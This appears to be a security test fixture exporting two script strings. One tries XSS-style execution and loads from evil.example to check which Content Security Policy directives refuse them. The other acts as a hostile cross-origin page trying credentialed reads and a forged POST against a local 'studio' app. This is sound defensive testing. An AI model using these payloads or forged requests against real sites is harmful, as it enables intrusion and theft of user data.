/**
 * Everything that a text could be made to do; gives by which parts of the policy it was refused. It waits first, because what a test
 * evaluates may make code of text.
 */
export const tries = `new Promise((resolve) => setTimeout(() => {
  const refused = []
  document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))
  const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields))
  setTimeout('hacked = 1', 0)
  try { new Function('hacked = 1')() } catch {}
  add('script', { textContent: 'hacked = 1' })
  add('script', { src: 'https://evil.example/a.js' })
  add('div', { innerHTML: '<img src=nothing onerror="hacked = 1">' })
  add('img', { src: 'https://evil.example/a.png' })
  add('iframe', { src: 'https://evil.example' })
  add('base', { href: 'https://evil.example' })
  add('object', { data: 'https://evil.example' })
  fetch('https://evil.example').catch(() => undefined)
  try { new Worker('data:text/javascript,1') } catch {}
  setTimeout(() => resolve(refused), 500)
}, 0))`

/** What a page of another origin may try to get out of a studio whose cookie the browser has; gives what it got. */
export const stealing = `async (studio) => {
  const soon = (work) => Promise.race([new Promise(work), new Promise((resolve) => setTimeout(resolve, 2000, 'nothing'))])
  const loads = (name, fields) => soon((resolve) => {
    const element = Object.assign(document.createElement(name), fields)
    element.onload = () => resolve('loaded')
    element.onerror = () => resolve('error')
    document.body.append(element)
  })
  const asked = (path, init) => fetch(studio + path, init).then((it) => it.type + ', ' + it.status, (error) => error.name)
  const frame = document.createElement('iframe')
  frame.src = studio + '/'
  document.body.append(frame)
  const body = '{"type":"start","repo_url":"r","baseline_sha":"' + 'a'.repeat(40) + '","name":"stolen","client":"dvc"}'
  return {
    fetch: await asked('/api/project', { credentials: 'include' }),
    silent: await asked('/api/project', { credentials: 'include', mode: 'no-cors' }),
    post: await asked('/api/live', { method: 'POST', credentials: 'include', body }),
    events: await soon((resolve) => {
      const source = new EventSource(studio + '/api/events', { withCredentials: true })
      source.onerror = () => resolve('error')
      source.onmessage = () => resolve('told')
    }),
    script: await loads('script', { src: studio + '/api/project' }),
    image: await loads('img', { src: studio + '/api/project' }),
    frame: await soon((resolve) => setTimeout(() => {
      try { resolve(frame.contentDocument === null ? 'closed' : 'open') } catch { resolve('closed') }
    }, 300)),
  }
}`
